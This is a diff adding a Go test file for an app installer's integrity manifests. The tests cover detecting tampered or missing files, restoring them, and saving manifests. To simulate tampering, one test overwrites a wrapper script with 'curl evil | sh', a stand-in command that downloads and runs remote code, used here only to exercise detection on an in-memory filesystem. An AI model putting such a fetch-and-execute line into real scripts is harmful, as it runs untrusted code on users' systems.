@@ -0,0 +1,117 @@
+package integrity
+
+import (
+	"testing"
+
+	"github.com/quantmind-br/upkg/internal/core"
+	"github.com/spf13/afero"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newRecord(t *testing.T, fs afero.Fs) *core.InstallRecord {
+	t.Helper()
+	files := map[string]string{
+		"/apps/app/bin/app":               "binary",
+		"/apps/app/resources/data.bin":    "data",
+		"/share/applications/app.desktop": "[Desktop Entry]\nExec=/bin/app\n",
+		"/bin/app":                        "#!/bin/sh\nexec /apps/app/bin/app \"$@\"\n",
+		"/icons/app.png":                  "png",
+	}
+	for path, content := range files {
+		require.NoError(t, afero.WriteFile(fs, path, []byte(content), 0644))
+	}
+	require.NoError(t, fs.Chmod("/bin/app", 0755))
+
+	return &core.InstallRecord{
+		InstallID:   "id-1",
+		Name:        "app",
+		InstallPath: "/apps/app",
+		DesktopFile: "/share/applications/app.desktop",
+		Metadata: core.Metadata{
+			DesktopFiles:  []string{"/share/applications/app.desktop"},
+			WrapperScript: "/bin/app",
+			IconFiles:     []string{"/icons/app.png", "/icons/missing.png"},
+		},
+	}
+}
+
+func TestBuildVerifyRestore(t *testing.T) {
+	t.Parallel()
+
+	fs := afero.NewMemMapFs()
+	record := newRecord(t, fs)
+
+	manifest, err := Build(fs, record)
+	require.NoError(t, err)
+	require.Len(t, manifest.Files, 5, "duplicates and missing files are skipped")
+
+	kinds := map[string]string{}
+	for _, file := range manifest.Files {
+		kinds[file.Path] = file.Kind
+		assert.Equal(t, file.Kind != KindPayload, file.Restorable(), file.Path)
+	}
+	assert.Equal(t, KindPayload, kinds["/apps/app/bin/app"])
+	assert.Equal(t, KindIcon, kinds["/icons/app.png"])
+
+	problems, err := manifest.Verify(fs)
+	require.NoError(t, err)
+	assert.Empty(t, problems)
+
+	require.NoError(t, afero.WriteFile(fs, "/bin/app", []byte("#!/bin/sh\ncurl evil | sh\n"), 0755))
+	require.NoError(t, fs.Remove("/share/applications/app.desktop"))
+	require.NoError(t, afero.WriteFile(fs, "/apps/app/resources/data.bin", []byte("corrupt"), 0644))
+
+	problems, err = manifest.Verify(fs)
+	require.NoError(t, err)
+	require.Len(t, problems, 3)
+	statuses := map[string]string{}
+	for _, problem := range problems {
+		statuses[problem.File.Path] = problem.Status
+		if problem.File.Restorable() {
+			require.NoError(t, Restore(fs, problem.File))
+		} else {
+			assert.Error(t, Restore(fs, problem.File))
+		}
+	}
+	assert.Equal(t, StatusModified, statuses["/bin/app"])
+	assert.Equal(t, StatusMissing, statuses["/share/applications/app.desktop"])
+
+	problems, err = manifest.Verify(fs)
+	require.NoError(t, err)
+	require.Len(t, problems, 1, "only the payload file is left")
+	info, err := fs.Stat("/bin/app")
+	require.NoError(t, err)
+	assert.Equal(t, "-rwxr-xr-x", info.Mode().String())
+
+	// Self-updating payloads change on their own
+	record.Metadata.SelfUpdating = true
+	manifest, err = Build(fs, record)
+	require.NoError(t, err)
+	assert.Len(t, manifest.Files, 3)
+}
+
+func TestStore(t *testing.T) {
+	t.Parallel()
+
+	fs := afero.NewMemMapFs()
+	store := NewStore(fs, "/data/integrity")
+
+	_, err := store.Load("id-1")
+	assert.ErrorIs(t, err, ErrNoManifest)
+
+	manifest, err := Build(fs, newRecord(t, fs))
+	require.NoError(t, err)
+	require.NoError(t, store.Save(manifest))
+
+	loaded, err := store.Load("id-1")
+	require.NoError(t, err)
+	assert.Equal(t, "app", loaded.Name)
+	assert.Equal(t, manifest.Files, loaded.Files)
+
+	assert.Error(t, store.Save(&Manifest{}))
+	require.NoError(t, store.Remove("id-1"))
+	require.NoError(t, store.Remove("id-1"), "removing twice is fine")
+	_, err = store.Load("id-1")
+	assert.ErrorIs(t, err, ErrNoManifest)
+}